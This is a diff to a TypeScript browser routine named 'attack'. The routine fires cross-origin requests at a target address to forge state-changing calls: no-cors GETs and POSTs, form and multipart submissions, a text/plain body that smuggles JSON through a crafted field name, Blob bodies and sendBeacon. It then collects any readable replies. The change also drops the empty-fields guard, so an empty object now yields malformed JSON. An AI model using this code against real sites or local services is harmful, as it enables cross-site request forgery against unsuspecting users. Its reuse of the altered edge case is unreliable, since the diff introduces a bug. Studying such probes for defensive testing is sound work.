@@ -91,16 +91,16 @@ async function attack({ address, calls }: { address: string; calls: Attack[] }):
     if (text) read.push(`${method} ${path}: ${text}`);
   }
 
-  for (const { method, path, fields } of calls) {
-    const json = JSON.stringify(fields);
+  async function tryAll({ method, path, fields }: Attack): Promise<void> {
     if (method === 'GET') {
       await reach(path, method, { mode: 'cors' });
       await reach(path, method, { mode: 'no-cors' });
-      continue;
+      return;
     }
+    const json = JSON.stringify(fields);
     for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data']) await post(path, enctype, fields);
     // JSON with an equals sign in a field that nobody asked for.
-    await post(path, 'text/plain', { [`${json.slice(0, -1)}${json === '{}' ? '' : ','}"x":"`]: '"}' });
+    await post(path, 'text/plain', { [`${json.slice(0, -1)},"x":"`]: '"}' });
     for (const type of ['text/plain', 'application/json']) {
       const headers = { 'Content-Type': type };
       await reach(path, 'POST', { mode: 'no-cors', headers, body: json });
@@ -109,6 +109,8 @@ async function attack({ address, calls }: { address: string; calls: Attack[] }):
     await reach(path, 'POST', { mode: 'no-cors', body: new Blob([json]) });
     navigator.sendBeacon(address + path, new Blob([json], { type: 'text/plain' }));
   }
+
+  await Promise.all(calls.map(tryAll));
   return read;
 }
 
